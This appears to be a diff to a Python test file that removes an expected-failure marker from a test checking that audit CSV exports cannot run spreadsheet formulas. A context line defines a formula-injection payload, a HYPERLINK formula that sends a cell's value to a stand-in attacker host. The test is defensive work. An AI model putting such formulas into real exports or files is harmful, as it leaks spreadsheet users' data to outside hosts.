@@ -181,8 +181,6 @@ def test_compare_html_is_escaped_and_inert(tmp_path: Path) -> None:
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"clic")'
 
 
-@pytest.mark.xfail(strict=True, raises=AssertionError, reason="audit: CSV cells are written as is; "
-                   "an outlet or source starting with = + - @ runs as a spreadsheet formula")
 def test_audit_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
     import csv
     import io
